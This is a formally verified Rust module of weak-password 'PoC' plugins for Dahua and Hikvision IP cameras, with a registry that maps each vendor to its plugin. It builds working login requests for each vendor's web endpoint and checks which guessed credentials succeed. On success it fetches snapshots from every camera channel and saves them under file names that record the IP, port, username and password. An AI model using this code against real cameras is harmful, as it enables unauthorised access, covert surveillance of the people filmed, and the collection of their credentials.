//! The built-in verifier plugins — the weak-password checks for two camera
//! vendors — and the registry that maps a classified product to its ordered
//! verifier list.

use vstd::prelude::*;

use crate::config::Config;
use crate::fingerprint::{build_url, url_of};
use crate::outside::{count_id_elements, dahua_login_ok, dahua_login_ok_of, id_element_count_of};
use crate::poc::{BasePoc, Poc, PocResult, ProbeRequest, SnapshotPlanItem, SnapshotRequest};
use crate::text::{dec_of, push_dec_u64, seq_contains, str_contains_str};

verus! {

// ---------------------------------------------------------------------------
// Dahua: JSON login, single-shot snapshot
// ---------------------------------------------------------------------------

/// The lowercase hex digit for a value below sixteen.
pub open spec fn hex_digit_char(d: int) -> char {
    if d < 10 {
        crate::text::digit_char(d)
    } else if d == 10 {
        'a'
    } else if d == 11 {
        'b'
    } else if d == 12 {
        'c'
    } else if d == 13 {
        'd'
    } else if d == 14 {
        'e'
    } else {
        'f'
    }
}

/// The JSON string escape of one character: quote and backslash get a
/// backslash, the five short controls their letters, other control
/// characters a `\u00` hex form, everything else stands as itself.
pub open spec fn json_escaped_char(c: char) -> Seq<char> {
    if c == '"' {
        seq!['\\', '"']
    } else if c == '\\' {
        seq!['\\', '\\']
    } else if c == '\u{8}' {
        seq!['\\', 'b']
    } else if c == '\t' {
        seq!['\\', 't']
    } else if c == '\n' {
        seq!['\\', 'n']
    } else if c == '\u{c}' {
        seq!['\\', 'f']
    } else if c == '\r' {
        seq!['\\', 'r']
    } else if (c as int) < 0x20 {
        seq!['\\', 'u', '0', '0'] + seq![hex_digit_char((c as int) / 16)] + seq![
            hex_digit_char((c as int) % 16),
        ]
    } else {
        seq![c]
    }
}

/// A text as it sits inside a JSON string literal.
pub open spec fn json_escaped(s: Seq<char>) -> Seq<char>
    decreases s.len(),
{
    if s.len() == 0 {
        Seq::empty()
    } else {
        json_escaped(s.drop_last()) + json_escaped_char(s.last())
    }
}

fn hex_digit(d: u32) -> (r: char)
    requires
        d < 16,
    ensures
        r == hex_digit_char(d as int),
{
    if d == 0 {
        '0'
    } else if d == 1 {
        '1'
    } else if d == 2 {
        '2'
    } else if d == 3 {
        '3'
    } else if d == 4 {
        '4'
    } else if d == 5 {
        '5'
    } else if d == 6 {
        '6'
    } else if d == 7 {
        '7'
    } else if d == 8 {
        '8'
    } else if d == 9 {
        '9'
    } else if d == 10 {
        'a'
    } else if d == 11 {
        'b'
    } else if d == 12 {
        'c'
    } else if d == 13 {
        'd'
    } else if d == 14 {
        'e'
    } else {
        'f'
    }
}

/// Appends `s` to `out` in JSON string-literal form.
fn push_json_escaped(out: &mut String, s: &str)
    ensures
        final(out)@ == old(out)@ + json_escaped(s@),
{
    let len = s.unicode_len();
    let mut i: usize = 0;
    proof {
        assert(s@.take(0) =~= Seq::<char>::empty());
        assert(out@ + json_escaped(s@.take(0)) =~= out@);
    }
    while i < len
        invariant
            0 <= i <= len,
            len == s@.len(),
            out@ == old(out)@ + json_escaped(s@.take(i as int)),
        decreases len - i,
    {
        let c = s.get_char(i);
        let u = c as u32;
        proof {
            assert(s@.take(i + 1).drop_last() =~= s@.take(i as int));
            assert(s@.take(i + 1).last() == s@[i as int]);
        }
        if u == 0x22 {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, '"');
        } else if u == 0x5c {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, '\\');
        } else if u == 0x8 {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, 'b');
        } else if u == 0x9 {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, 't');
        } else if u == 0xa {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, 'n');
        } else if u == 0xc {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, 'f');
        } else if u == 0xd {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, 'r');
        } else if u < 0x20 {
            crate::outside::push_char(out, '\\');
            crate::outside::push_char(out, 'u');
            crate::outside::push_char(out, '0');
            crate::outside::push_char(out, '0');
            let hi = hex_digit(u / 16);
            crate::outside::push_char(out, hi);
            let lo = hex_digit(u % 16);
            crate::outside::push_char(out, lo);
        } else {
            crate::outside::push_char(out, c);
        }
        proof {
            assert(out@ =~= old(out)@ + json_escaped(s@.take(i + 1)));
        }
        i += 1;
    }
    proof {
        assert(s@.take(len as int) =~= s@);
    }
}

/// The login request body the Dahua web endpoint expects: the JSON fields
/// in serialization order, the credentials escaped as JSON string
/// literals.
pub open spec fn dahua_login_payload(user: Seq<char>, password: Seq<char>) -> Seq<char> {
    "{\"id\":1,\"method\":\"global.login\",\"params\":{\"authorityType\":\"Default\",\"clientType\":\"Web3.0\",\"loginType\":\"Direct\",\"password\":\""@
        + json_escaped(password) + "\",\"passwordType\":\"Plain\",\"userName\":\""@ + json_escaped(
        user,
    ) + "\"},\"session\":0}"@
}

/// The artifact name for a Dahua capture: host, port and credentials.
pub open spec fn dahua_artifact_name(r: PocResult) -> Seq<char> {
    r.ip@ + seq!['-'] + dec_of(r.port as nat) + seq!['-'] + r.user@ + seq!['-'] + r.password@
        + ".jpg"@
}

/// Checks a Dahua login endpoint for weak credentials and captures one
/// snapshot per confirmed host.
pub struct DahuaWeakPassword {
    pub name: String,
    pub product: String,
}

impl DahuaWeakPassword {
    pub fn new(config: &Config) -> (r: Self)
        ensures
            r.name@ == "dahua-weak-password"@,
            r.product@ == "dahua"@,
    {
        DahuaWeakPassword {
            name: String::from_str("dahua-weak-password"),
            product: String::from_str("dahua"),
        }
    }
}

impl Poc for DahuaWeakPassword {
    open spec fn name_spec(&self) -> Seq<char> {
        self.name@
    }

    open spec fn product_spec(&self) -> Seq<char> {
        self.product@
    }

    open spec fn login_url_spec(&self, ip: Seq<char>, port: u16) -> Seq<char> {
        url_of(ip, port, "/RPC2_Login"@)
    }

    open spec fn login_body_spec(&self, user: Seq<char>, password: Seq<char>) -> Option<
        Seq<char>,
    > {
        Some(dahua_login_payload(user, password))
    }

    /// Success is an HTTP 200 whose JSON carries `result: true`.
    open spec fn success_spec(&self, status: u16, body: Seq<char>) -> bool {
        status == 200 && dahua_login_ok_of(body)
    }

    open spec fn channels_spec(&self, body: Seq<char>) -> nat {
        1
    }

    /// The Dahua exploit is single-shot: no channel discovery.
    open spec fn channels_url_spec(&self, result: PocResult) -> Option<Seq<char>> {
        None
    }

    /// One capture, whatever the channel count.
    open spec fn snapshot_plan_spec(&self, result: PocResult, channels: nat) -> Seq<
        SnapshotPlanItem,
    > {
        seq![
            SnapshotPlanItem {
                url: url_of(result.ip@, result.port, "/cgi-bin/snapshot.cgi"@),
                file_name: dahua_artifact_name(result),
            },
        ]
    }

    fn name(&self) -> (r: &str) {
        self.name.as_str()
    }

    fn product(&self) -> (r: &str) {
        self.product.as_str()
    }

    fn login_probe(&self, ip: &str, port: u16, user: &str, password: &str) -> (r: ProbeRequest) {
        let mut body = String::from_str(
            "{\"id\":1,\"method\":\"global.login\",\"params\":{\"authorityType\":\"Default\",\"clientType\":\"Web3.0\",\"loginType\":\"Direct\",\"password\":\"",
        );
        push_json_escaped(&mut body, password);
        body.append("\",\"passwordType\":\"Plain\",\"userName\":\"");
        push_json_escaped(&mut body, user);
        body.append("\"},\"session\":0}");
        proof {
            assert(body@ =~= dahua_login_payload(user@, password@));
        }
        ProbeRequest {
            url: build_url(ip, port, "/RPC2_Login"),
            user: String::from_str(user),
            password: String::from_str(password),
            body: Some(body),
        }
    }

    fn verify_success(&self, status: u16, body: &str) -> (r: bool) {
        status == 200 && dahua_login_ok(body)
    }

    fn make_result(&self, ip: &str, port: u16, user: &str, password: &str) -> (r: PocResult) {
        PocResult {
            ip: String::from_str(ip),
            port,
            product: self.product.clone(),
            user: String::from_str(user),
            password: String::from_str(password),
            vul_name: self.name.clone(),
        }
    }

    fn channels_probe(&self, result: &PocResult) -> (r: Option<ProbeRequest>) {
        None
    }

    fn parse_channels(&self, body: &str) -> (r: usize) {
        1
    }

    fn snapshot_requests(&self, result: &PocResult, channels: usize, config: &Config) -> (r: Vec<
        SnapshotRequest,
    >) {
        let url = build_url(result.ip.as_str(), result.port, "/cgi-bin/snapshot.cgi");
        let mut file_name = result.ip.clone();
        file_name.append("-");
        push_dec_u64(&mut file_name, result.port as u64);
        file_name.append("-");
        file_name.append(result.user.as_str());
        file_name.append("-");
        file_name.append(result.password.as_str());
        file_name.append(".jpg");
        proof {
            reveal_strlit("-");
            assert("-"@ =~= seq!['-']);
            assert(file_name@ =~= dahua_artifact_name(*result));
        }
        let item = SnapshotRequest {
            url,
            file_name,
            user: result.user.clone(),
            password: result.password.clone(),
        };
        let mut out: Vec<SnapshotRequest> = Vec::new();
        out.push(item);
        out
    }
}

// ---------------------------------------------------------------------------
// Hikvision: basic-auth login, one capture per channel
// ---------------------------------------------------------------------------

/// The artifact name for one Hikvision channel capture.
pub open spec fn hik_artifact_name(r: PocResult, channel: int) -> Seq<char> {
    r.ip@ + seq!['-'] + dec_of(r.port as nat) + "-channel"@ + dec_of(channel as nat) + seq!['-']
        + r.user@ + seq!['-'] + r.password@ + ".jpg"@
}

/// The picture endpoint for one Hikvision channel.
pub open spec fn hik_channel_url(r: PocResult, channel: int) -> Seq<char> {
    url_of(
        r.ip@,
        r.port,
        "/ISAPI/Streaming/channels/"@ + dec_of(channel as nat) + "01/picture"@,
    )
}

/// Checks a Hikvision user endpoint for weak credentials and captures one
/// snapshot per camera channel.
pub struct HikvisionWeakPassword {
    pub name: String,
    pub product: String,
}

impl HikvisionWeakPassword {
    pub fn new(config: &Config) -> (r: Self)
        ensures
            r.name@ == "hikvision-weak-password"@,
            r.product@ == "hikvision"@,
    {
        HikvisionWeakPassword {
            name: String::from_str("hikvision-weak-password"),
            product: String::from_str("hikvision"),
        }
    }
}

impl Poc for HikvisionWeakPassword {
    open spec fn name_spec(&self) -> Seq<char> {
        self.name@
    }

    open spec fn product_spec(&self) -> Seq<char> {
        self.product@
    }

    open spec fn login_url_spec(&self, ip: Seq<char>, port: u16) -> Seq<char> {
        url_of(ip, port, "/ISAPI/Security/userCheck"@)
    }

    /// A plain GET under basic authentication.
    open spec fn login_body_spec(&self, user: Seq<char>, password: Seq<char>) -> Option<
        Seq<char>,
    > {
        None
    }

    /// Success is an HTTP 200 whose body carries the vendor's user-check
    /// markers.
    open spec fn success_spec(&self, status: u16, body: Seq<char>) -> bool {
        &&& status == 200
        &&& seq_contains(body, "userCheck"@)
        &&& seq_contains(body, "statusValue"@)
        &&& seq_contains(body, "200"@)
    }

    /// As many channels as the listing describes, and at least one.
    open spec fn channels_spec(&self, body: Seq<char>) -> nat {
        if id_element_count_of(body) >= 1 {
            id_element_count_of(body)
        } else {
            1
        }
    }

    /// The channel listing sits on the image-channels endpoint.
    open spec fn channels_url_spec(&self, result: PocResult) -> Option<Seq<char>> {
        Some(url_of(result.ip@, result.port, "/ISAPI/Image/channels"@))
    }

    /// One capture per channel, numbered from one.
    open spec fn snapshot_plan_spec(&self, result: PocResult, channels: nat) -> Seq<
        SnapshotPlanItem,
    > {
        Seq::new(
            channels,
            |i: int|
                SnapshotPlanItem {
                    url: hik_channel_url(result, i + 1),
                    file_name: hik_artifact_name(result, i + 1),
                },
        )
    }

    fn name(&self) -> (r: &str) {
        self.name.as_str()
    }

    fn product(&self) -> (r: &str) {
        self.product.as_str()
    }

    fn login_probe(&self, ip: &str, port: u16, user: &str, password: &str) -> (r: ProbeRequest) {
        ProbeRequest {
            url: build_url(ip, port, "/ISAPI/Security/userCheck"),
            user: String::from_str(user),
            password: String::from_str(password),
            body: None,
        }
    }

    fn verify_success(&self, status: u16, body: &str) -> (r: bool) {
        status == 200 && str_contains_str(body, "userCheck") && str_contains_str(
            body,
            "statusValue",
        ) && str_contains_str(body, "200")
    }

    fn make_result(&self, ip: &str, port: u16, user: &str, password: &str) -> (r: PocResult) {
        PocResult {
            ip: String::from_str(ip),
            port,
            product: self.product.clone(),
            user: String::from_str(user),
            password: String::from_str(password),
            vul_name: self.name.clone(),
        }
    }

    /// The channel listing must be fetched before the captures are planned.
    fn channels_probe(&self, result: &PocResult) -> (r: Option<ProbeRequest>) {
        Some(
            ProbeRequest {
                url: build_url(result.ip.as_str(), result.port, "/ISAPI/Image/channels"),
                user: result.user.clone(),
                password: result.password.clone(),
                body: None,
            },
        )
    }

    fn parse_channels(&self, body: &str) -> (r: usize) {
        let c = count_id_elements(body);
        if c >= 1 {
            c
        } else {
            1
        }
    }

    fn snapshot_requests(&self, result: &PocResult, channels: usize, config: &Config) -> (r: Vec<
        SnapshotRequest,
    >) {
        let mut out: Vec<SnapshotRequest> = Vec::new();
        let mut ch: usize = 0;
        while ch < channels
            invariant
                0 <= ch <= channels,
                out@.len() == ch,
                forall|i: int|
                    0 <= i < ch ==> (#[trigger] out@[i]).url@ == hik_channel_url(*result, i + 1)
                        && out@[i].file_name@ == hik_artifact_name(*result, i + 1) && out@[i].user@
                        == result.user@ && out@[i].password@ == result.password@,
            decreases channels - ch,
    {
            let mut path = String::from_str("/ISAPI/Streaming/channels/");
            push_dec_u64(&mut path, (ch + 1) as u64);
            path.append("01/picture");
            let url = build_url(result.ip.as_str(), result.port, path.as_str());
            let mut file_name = result.ip.clone();
            file_name.append("-");
            push_dec_u64(&mut file_name, result.port as u64);
            file_name.append("-channel");
            push_dec_u64(&mut file_name, (ch + 1) as u64);
            file_name.append("-");
            file_name.append(result.user.as_str());
            file_name.append("-");
            file_name.append(result.password.as_str());
            file_name.append(".jpg");
            proof {
                reveal_strlit("-");
                assert("-"@ =~= seq!['-']);
                assert(path@ =~= "/ISAPI/Streaming/channels/"@ + dec_of((ch + 1) as nat)
                    + "01/picture"@);
                assert(url@ == hik_channel_url(*result, ch + 1));
                assert(file_name@ =~= hik_artifact_name(*result, ch + 1));
            }
            out.push(
                SnapshotRequest {
                    url,
                    file_name,
                    user: result.user.clone(),
                    password: result.password.clone(),
                },
            );
            ch += 1;
        }
        out
    }
}

// ---------------------------------------------------------------------------
// The registry
// ---------------------------------------------------------------------------

/// A verifier as the registry stores it. New vendors implement `Poc` and are
/// registered by adding a variant here: the registry holds this closed sum
/// so that its contract can say exactly which verifier sits under which
/// product, which a trait object cannot carry.
pub enum RegisteredPoc {
    Dahua(DahuaWeakPassword),
    Hikvision(HikvisionWeakPassword),
    Base(BasePoc),
}

impl Poc for RegisteredPoc {
    open spec fn name_spec(&self) -> Seq<char> {
        match self {
            RegisteredPoc::Dahua(p) => p.name_spec(),
            RegisteredPoc::Hikvision(p) => p.name_spec(),
            RegisteredPoc::Base(p) => p.name_spec(),
        }
    }

    open spec fn product_spec(&self) -> Seq<char> {
        match self {
            RegisteredPoc::Dahua(p) => p.product_spec(),
            RegisteredPoc::Hikvision(p) => p.product_spec(),
            RegisteredPoc::Base(p) => p.product_spec(),
        }
    }

    open spec fn login_url_spec(&self, ip: Seq<char>, port: u16) -> Seq<char> {
        match self {
            RegisteredPoc::Dahua(p) => p.login_url_spec(ip, port),
            RegisteredPoc::Hikvision(p) => p.login_url_spec(ip, port),
            RegisteredPoc::Base(p) => p.login_url_spec(ip, port),
        }
    }

    open spec fn login_body_spec(&self, user: Seq<char>, password: Seq<char>) -> Option<
        Seq<char>,
    > {
        match self {
            RegisteredPoc::Dahua(p) => p.login_body_spec(user, password),
            RegisteredPoc::Hikvision(p) => p.login_body_spec(user, password),
            RegisteredPoc::Base(p) => p.login_body_spec(user, password),
        }
    }

    open spec fn success_spec(&self, status: u16, body: Seq<char>) -> bool {
        match self {
            RegisteredPoc::Dahua(p) => p.success_spec(status, body),
            RegisteredPoc::Hikvision(p) => p.success_spec(status, body),
            RegisteredPoc::Base(p) => p.success_spec(status, body),
        }
    }

    open spec fn channels_spec(&self, body: Seq<char>) -> nat {
        match self {
            RegisteredPoc::Dahua(p) => p.channels_spec(body),
            RegisteredPoc::Hikvision(p) => p.channels_spec(body),
            RegisteredPoc::Base(p) => p.channels_spec(body),
        }
    }

    open spec fn channels_url_spec(&self, result: PocResult) -> Option<Seq<char>> {
        match self {
            RegisteredPoc::Dahua(p) => p.channels_url_spec(result),
            RegisteredPoc::Hikvision(p) => p.channels_url_spec(result),
            RegisteredPoc::Base(p) => p.channels_url_spec(result),
        }
    }

    open spec fn snapshot_plan_spec(&self, result: PocResult, channels: nat) -> Seq<
        SnapshotPlanItem,
    > {
        match self {
            RegisteredPoc::Dahua(p) => p.snapshot_plan_spec(result, channels),
            RegisteredPoc::Hikvision(p) => p.snapshot_plan_spec(result, channels),
            RegisteredPoc::Base(p) => p.snapshot_plan_spec(result, channels),
        }
    }

    fn name(&self) -> (r: &str) {
        match self {
            RegisteredPoc::Dahua(p) => p.name(),
            RegisteredPoc::Hikvision(p) => p.name(),
            RegisteredPoc::Base(p) => p.name(),
        }
    }

    fn product(&self) -> (r: &str) {
        match self {
            RegisteredPoc::Dahua(p) => p.product(),
            RegisteredPoc::Hikvision(p) => p.product(),
            RegisteredPoc::Base(p) => p.product(),
        }
    }

    fn login_probe(&self, ip: &str, port: u16, user: &str, password: &str) -> (r: ProbeRequest) {
        match self {
            RegisteredPoc::Dahua(p) => p.login_probe(ip, port, user, password),
            RegisteredPoc::Hikvision(p) => p.login_probe(ip, port, user, password),
            RegisteredPoc::Base(p) => p.login_probe(ip, port, user, password),
        }
    }

    fn verify_success(&self, status: u16, body: &str) -> (r: bool) {
        match self {
            RegisteredPoc::Dahua(p) => p.verify_success(status, body),
            RegisteredPoc::Hikvision(p) => p.verify_success(status, body),
            RegisteredPoc::Base(p) => p.verify_success(status, body),
        }
    }

    fn make_result(&self, ip: &str, port: u16, user: &str, password: &str) -> (r: PocResult) {
        match self {
            RegisteredPoc::Dahua(p) => p.make_result(ip, port, user, password),
            RegisteredPoc::Hikvision(p) => p.make_result(ip, port, user, password),
            RegisteredPoc::Base(p) => p.make_result(ip, port, user, password),
        }
    }

    fn channels_probe(&self, result: &PocResult) -> (r: Option<ProbeRequest>) {
        match self {
            RegisteredPoc::Dahua(p) => p.channels_probe(result),
            RegisteredPoc::Hikvision(p) => p.channels_probe(result),
            RegisteredPoc::Base(p) => p.channels_probe(result),
        }
    }

    fn parse_channels(&self, body: &str) -> (r: usize) {
        match self {
            RegisteredPoc::Dahua(p) => p.parse_channels(body),
            RegisteredPoc::Hikvision(p) => p.parse_channels(body),
            RegisteredPoc::Base(p) => p.parse_channels(body),
        }
    }

    fn snapshot_requests(&self, result: &PocResult, channels: usize, config: &Config) -> (r: Vec<
        SnapshotRequest,
    >) {
        match self {
            RegisteredPoc::Dahua(p) => p.snapshot_requests(result, channels, config),
            RegisteredPoc::Hikvision(p) => p.snapshot_requests(result, channels, config),
            RegisteredPoc::Base(p) => p.snapshot_requests(result, channels, config),
        }
    }
}

/// The ordered verifiers registered for one product.
pub struct PocGroup {
    pub product: String,
    pub pocs: Vec<RegisteredPoc>,
}

/// The index of the first group registered under a product name.
pub open spec fn dict_index_of(groups: Seq<PocGroup>, product: Seq<char>) -> Option<int>
    decreases groups.len(),
{
    if groups.len() == 0 {
        None
    } else if groups[0].product@ == product {
        Some(0)
    } else {
        match dict_index_of(groups.drop_first(), product) {
            Some(i) => Some(i + 1),
            None => None,
        }
    }
}

/// The registry: product name to ordered verifier list. Read-only after
/// startup.
pub struct PocDict {
    pub groups: Vec<PocGroup>,
}

impl PocDict {
    /// The verifier group for a classified product, if one is registered.
    pub fn get<'a>(&'a self, product: &str) -> (r: Option<&'a PocGroup>)
        ensures
            r is Some <==> dict_index_of(self.groups@, product@) is Some,
            r matches Some(g) ==> dict_index_of(self.groups@, product@) matches Some(k) && *g
                == self.groups@[k],
    {
        let mut i: usize = 0;
        while i < self.groups.len()
            invariant
                0 <= i <= self.groups@.len(),
                forall|k: int| 0 <= k < i ==> (#[trigger] self.groups@[k].product@) != product@,
            decreases self.groups@.len() - i,
        {
            if crate::text::str_eq_str(self.groups[i].product.as_str(), product) {
                proof {
                    lemma_dict_index_prefix_miss(self.groups@, product@, i as int);
                }
                return Some(&self.groups[i]);
            }
            i += 1;
        }
        proof {
            lemma_dict_index_none(self.groups@, product@);
        }
        None
    }
}

proof fn lemma_dict_index_prefix_miss(groups: Seq<PocGroup>, product: Seq<char>, i: int)
    requires
        0 <= i < groups.len(),
        groups[i].product@ == product,
        forall|k: int| 0 <= k < i ==> (#[trigger] groups[k].product@) != product,
    ensures
        dict_index_of(groups, product) == Some(i),
    decreases i,
{
    if i == 0 {
    } else {
        assert(groups[0].product@ != product);
        assert(groups.drop_first()[i - 1] == groups[i]);
        assert(forall|k: int|
            0 <= k < i - 1 ==> (#[trigger] groups.drop_first()[k].product@) == groups[k
                + 1].product@);
        lemma_dict_index_prefix_miss(groups.drop_first(), product, i - 1);
    }
}

proof fn lemma_dict_index_none(groups: Seq<PocGroup>, product: Seq<char>)
    requires
        forall|k: int| 0 <= k < groups.len() ==> (#[trigger] groups[k].product@) != product,
    ensures
        dict_index_of(groups, product) is None,
    decreases groups.len(),
{
    if groups.len() > 0 {
        assert(forall|k: int|
            0 <= k < groups.len() - 1 ==> (#[trigger] groups.drop_first()[k].product@) == groups[k
                + 1].product@);
        lemma_dict_index_none(groups.drop_first(), product);
    }
}

/// Builds the standard registry: under each of the two product names, that
/// vendor's weak-password verifier and nothing else.
pub fn get_poc_dict(config: &Config) -> (r: PocDict)
    ensures
        r.groups@.len() == 2,
        r.groups@[0].product@ == "dahua"@,
        r.groups@[0].pocs@.len() == 1,
        r.groups@[0].pocs@[0].product_spec() == "dahua"@,
        r.groups@[0].pocs@[0].name_spec() == "dahua-weak-password"@,
        r.groups@[1].product@ == "hikvision"@,
        r.groups@[1].pocs@.len() == 1,
        r.groups@[1].pocs@[0].product_spec() == "hikvision"@,
        r.groups@[1].pocs@[0].name_spec() == "hikvision-weak-password"@,
{
    let dahua = RegisteredPoc::Dahua(DahuaWeakPassword::new(config));
    let hik = RegisteredPoc::Hikvision(HikvisionWeakPassword::new(config));
    let ghost dahua_snap = dahua;
    let ghost hik_snap = hik;
    let mut dahua_pocs: Vec<RegisteredPoc> = Vec::new();
    dahua_pocs.push(dahua);
    let mut hik_pocs: Vec<RegisteredPoc> = Vec::new();
    hik_pocs.push(hik);
    proof {
        assert(dahua_pocs@ =~= seq![dahua_snap]);
        assert(hik_pocs@ =~= seq![hik_snap]);
    }
    let mut groups: Vec<PocGroup> = Vec::new();
    let g0 = PocGroup { product: String::from_str("dahua"), pocs: dahua_pocs };
    let g1 = PocGroup { product: String::from_str("hikvision"), pocs: hik_pocs };
    let ghost s0 = g0;
    let ghost s1 = g1;
    groups.push(g0);
    groups.push(g1);
    proof {
        assert(groups@ =~= seq![s0, s1]);
        assert(groups@[0].pocs@[0].product_spec() == "dahua"@);
        assert(groups@[1].pocs@[0].name_spec() == "hikvision-weak-password"@);
    }
    PocDict { groups }
}

} // verus!
